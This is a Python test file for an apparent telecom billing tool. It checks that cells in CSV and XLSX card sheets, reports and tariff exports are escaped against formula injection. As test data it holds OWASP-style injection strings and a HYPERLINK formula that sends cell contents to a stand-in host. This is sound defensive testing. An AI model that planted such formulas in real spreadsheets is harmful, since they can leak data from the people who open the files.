"""Every CSV and XLSX cell written from user or CDR data is escaped against formula injection
(rater/escape.py): card sheets, card exports, every report, `rater report query`, tariff
exports. Each file is read back as text (openpyxl for XLSX, the csv module for CSV)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from rater.accounts.cardsheet import (
    BatchInfo,
    ExportRow,
    IssuedRow,
    read_sheet,
    write_export_sheet,
    write_issue_sheet,
)
from rater.analytics.reports import query_report
from rater.analytics.tables import Col, Kind, Report, write_csv, write_xlsx
from rater.escape import FORMULA_STARTS, cell, uncell
from rater.tariffs.export import to_csv_text, write_tariff
from rater.tariffs.model import Steps, TariffRow, TariffTable

#: one dangerous text per starting character OWASP names
DANGEROUS = {
    "=": "=2+3",
    "+": "+2+3",
    "-": "-2+3",
    "@": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def _xlsx_cells(path: Path) -> list[list[Any]]:
    """Every cell of the first sheet, as openpyxl reads it (formulas are NOT evaluated)."""
    book = load_workbook(path)
    sheet = book.worksheets[0]
    rows = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    book.close()
    return rows


def _assert_text_cell(found: tuple[Any, str], original: str) -> None:
    value, data_type = found
    assert data_type == "s", f"{original!r} was written as {data_type!r}: {value!r}"
    assert value == "'" + original


# ---------------------------------------------------------------------------- the one function
@pytest.mark.parametrize("name", list(DANGEROUS))
def test_each_formula_start_gets_an_apostrophe(name: str) -> None:
    text = DANGEROUS[name]
    assert text.startswith(FORMULA_STARTS)
    assert cell(text) == "'" + text


def test_numbers_and_harmless_text_are_unchanged() -> None:
    for value in ("-0.5", "+3", "-1.00", "12", "1e5", "Germany - Mobile", "", "a=b"):
        assert cell(value) == value
    for number in (5, -5, Decimal("-1.25"), None, date(2026, 1, 1)):
        assert cell(number) is number or cell(number) == number


@given(st.text())
def test_uncell_gives_back_exactly_what_cell_was_given(text: str) -> None:
    escaped = cell(text)
    assert uncell(escaped) == text
    assert not escaped.startswith(FORMULA_STARTS) or escaped == text


# ---------------------------------------------------------------------------- card sheets
@pytest.mark.parametrize("name", list(DANGEROUS))
def test_card_issue_sheet_escapes_tariff_batch_and_currency(tmp_path: Path, name: str) -> None:
    text = DANGEROUS[name]
    batch = BatchInfo(text + "b", text + "c", 5_000_000, date(2027, 3, 31), text)
    cards = [IssuedRow("012345678901", "0042"), IssuedRow("012345678902", "0043")]
    path = write_issue_sheet(tmp_path / "cards.xlsx", batch, cards)
    rows = _xlsx_cells(path)
    header = [value for value, _ in rows[0]]
    for data in rows[1:]:
        by_name = dict(zip(header, data, strict=True))
        _assert_text_cell(by_name["Tariff"], text)
        _assert_text_cell(by_name["Batch"], text + "b")
        _assert_text_cell(by_name["Currency"], text + "c")
        assert by_name["PIN"] == ("0042", "s") or by_name["PIN"] == ("0043", "s")
        assert by_name["Value"][1] == "n"  # numbers stay numbers
    back = read_sheet(path)
    assert {c.tariff for c in back} == {text}  # read back without the escape
    assert {c.batch_id for c in back} == {text + "b"}


def test_card_export_sheet_escapes_status_and_tariff(tmp_path: Path) -> None:
    batch = BatchInfo("b1", "EUR", 5_000_000, None, HYPERLINK)
    path = write_export_sheet(
        tmp_path / "export.xlsx", batch, [ExportRow("012345678901", -1_500_000, "=1+1")]
    )
    rows = _xlsx_cells(path)
    by_name = dict(zip([v for v, _ in rows[0]], rows[1], strict=True))
    _assert_text_cell(by_name["Tariff"], HYPERLINK)
    _assert_text_cell(by_name["Status"], "=1+1")
    assert by_name["Balance"] == (-1.5, "n")


# ---------------------------------------------------------------------------- reports
def _report(texts: list[str]) -> Report:
    columns = (
        Col("destination", "Destination", Kind.TEXT),
        Col("calls", "Calls", Kind.COUNT),
        Col("revenue", "Revenue", Kind.MONEY),
    )
    return Report("Destinations", columns, [(t, 3, -1_250_000) for t in texts])


def test_report_xlsx_escapes_every_text_cell_and_keeps_numbers(tmp_path: Path) -> None:
    texts = [*DANGEROUS.values(), HYPERLINK]
    path = tmp_path / "report.xlsx"
    write_xlsx(_report(texts), path)
    rows = _xlsx_cells(path)[1:]
    assert len(rows) == len(texts)
    for row, text in zip(rows, texts, strict=True):
        _assert_text_cell(row[0], text)
        assert row[1] == (3, "n")
        assert row[2] == (-1.25, "n")


def test_report_csv_escapes_every_text_cell_and_keeps_numbers(tmp_path: Path) -> None:
    texts = [*DANGEROUS.values(), HYPERLINK]
    path = tmp_path / "report.csv"
    write_csv(_report(texts), path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    assert [row[0] for row in rows] == ["'" + t for t in texts]
    assert {row[2] for row in rows} == {"-1.25"}  # money stays a plain number


class _Executor:
    """What query_report asks of ClickHouse, answered from memory."""

    def __init__(self, names: list[str], rows: list[tuple[Any, ...]]) -> None:
        self.result = (names, rows)

    def table(self, sql: str, params: Any = None) -> tuple[list[str], list[tuple[Any, ...]]]:
        return self.result


def test_report_query_escapes_text_from_cdrs(tmp_path: Path) -> None:
    executor = _Executor(
        ["destination", "calls", "revenue_micro", "share"],
        [(HYPERLINK, 4, 2_000_000, -0.25), ("@evil", 1, 0, 0.5)],
    )
    report = query_report(executor, "top-destinations-by-margin", {})  # type: ignore[arg-type]
    csv_path, xlsx_path = tmp_path / "q.csv", tmp_path / "q.xlsx"
    write_csv(report, csv_path)
    write_xlsx(report, xlsx_path)
    with csv_path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    assert rows[0][0] == "'" + HYPERLINK
    assert rows[1][0] == "'@evil"
    assert rows[0][3] == "-0.25"  # a float shown as text is still a number
    cells = _xlsx_cells(xlsx_path)[1:]
    _assert_text_cell(cells[0][0], HYPERLINK)
    _assert_text_cell(cells[1][0], "@evil")


# ---------------------------------------------------------------------------- tariff exports
def _tariff(destination: str) -> TariffTable:
    row = TariffRow("49", destination, 12_300, line=2)
    return TariffTable(name="=2+3", currency="EUR", decimals=4, steps=Steps(60, 60), rows=(row,))


@pytest.mark.parametrize("name", list(DANGEROUS))
def test_tariff_csv_export_escapes_destinations(name: str) -> None:
    text = DANGEROUS[name]
    lines = list(csv.reader(io.StringIO(to_csv_text(_tariff(text)), newline="")))
    assert lines[1][1] == "'" + text
    assert lines[1][0] == "49"


def test_tariff_xlsx_export_escapes_destinations(tmp_path: Path) -> None:
    path = tmp_path / "tariff.xlsx"
    write_tariff(_tariff(HYPERLINK), path)
    rows = _xlsx_cells(path)
    _assert_text_cell(rows[1][1], HYPERLINK)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_escaped_tariff_export_imports_back_to_the_same_destinations(
    tmp_path: Path, suffix: str
) -> None:
    from rater.tariffs.importers import read_tariff

    path = tmp_path / f"tariff{suffix}"
    write_tariff(_tariff(HYPERLINK), path)
    back = read_tariff(path, name="back", decimals=4)
    assert [row.destination for row in back.rows] == [HYPERLINK]
